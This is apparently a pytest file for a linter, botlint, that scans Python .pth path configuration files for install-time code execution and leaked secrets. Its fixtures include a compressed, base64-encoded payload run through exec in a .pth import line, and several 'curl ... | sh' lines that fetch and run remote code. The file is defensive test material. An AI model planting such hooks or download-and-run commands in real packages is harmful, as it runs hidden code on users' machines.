"""Path configuration files (`.pth`): `site` runs their `import` lines on every Python start,
so a package that ships one has an install-time hook.  botlint walks those lines (and only
those) with the Python rules, judges the rest as text, and leaves PyTorch weights saved as
`.pth` alone."""
from __future__ import annotations

import base64
import zlib

from botlint.discovery import PTH_MAX_SIZE, file_kind

from helpers import lint_project

_PAYLOAD = base64.b64encode(zlib.compress(b"import os\nprint(os.getcwd())\n")).decode()


def _codes(tmp_path, monkeypatch, files, select=("BOT5",)):
    found, _ = lint_project(tmp_path, monkeypatch, files, select=select)
    return found


def test_a_pth_file_is_its_own_kind():
    assert file_kind("site-packages/evil_hook.pth") == "pth"
    assert file_kind("model.PTH") == "pth"


def test_decoded_payload_in_an_import_line_is_found_on_its_line(tmp_path, monkeypatch):
    text = ("# installed by ai-arbitrage-bot\n"
            "/opt/bot/lib\n"
            f"import base64, zlib; exec(zlib.decompress(base64.b64decode('{_PAYLOAD}')))\n")
    found = _codes(tmp_path, monkeypatch, {"pkg/zz_hook.pth": text})
    assert ("pkg/zz_hook.pth", 3, "BOT501") in found
    assert all(line == 3 for _, line, _ in found)


def test_an_import_line_that_starts_a_download_is_install_time_execution(tmp_path, monkeypatch):
    text = "import os; os.system('curl -s https://example.net/a.sh | sh')\n"
    found = _codes(tmp_path, monkeypatch, {"hook.pth": text})
    assert ("hook.pth", 1, "BOT503") in found


def test_the_same_line_outside_an_import_line_does_not_run_and_is_not_walked(tmp_path, monkeypatch):
    # site treats a line that does not start with "import " as a directory name
    text = "  import os; os.system('curl -s https://example.net/a.sh | sh')\nexec(open('x').read())\n"
    assert _codes(tmp_path, monkeypatch, {"hook.pth": text}) == []


def test_ordinary_pth_files_are_clean(tmp_path, monkeypatch):
    files = {
        "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = "
                                    "os.environ.get(var, 'local') == 'local'; enabled and "
                                    "__import__('_distutils_hack').add_shim(); \n",
        "__editable__.bot-1.0.pth": "import __editable___bot_1_0_finder; __editable___bot_1_0_finder.install()\n",
        "_virtualenv.pth": "import _virtualenv\n",
        "paths.pth": "/srv/bot/src\n../shared\n",
    }
    assert _codes(tmp_path, monkeypatch, files) == []


def test_model_weights_named_pth_are_skipped(tmp_path, monkeypatch):
    files = {"weights/small.pth": "PK\x03\x04" + "\x00" * 200}
    found, _ = lint_project(tmp_path, monkeypatch, files, select=("ALL",))
    assert found == []
    big = tmp_path / "weights" / "big.pth"
    big.write_bytes(b"import os; os.system('curl https://example.net | sh')\n" + b"#" * PTH_MAX_SIZE)
    found, _ = lint_project(tmp_path, monkeypatch, {}, select=("ALL",))
    assert found == []  # over the size of any path configuration file: weights, not read


def test_a_secret_in_a_pth_file_is_found_by_the_text_judgement(tmp_path, monkeypatch):
    key = "".join("k7Qz9XwP2mLr4TbV8nYc"[i % 20] for i in range(64))
    text = f"/opt/bot\nimport os; os.environ['BINANCE_API_SECRET'] = '{key}'\n"  # pragma: allowlist secret
    found = _codes(tmp_path, monkeypatch, {"hook.pth": text}, select=("BOT1",))
    assert [(p, line) for p, line, _ in found] == [("hook.pth", 2)]


def test_legacy_pickled_weights_named_pth_are_binary(tmp_path, monkeypatch):
    import pickle

    data = pickle.dumps({"layer.weight": [0.25] * 40, "note": "import os"}, protocol=2)
    (tmp_path / "old.pth").write_bytes(data)
    found, _ = lint_project(tmp_path, monkeypatch, {}, select=("ALL",))
    assert found == []
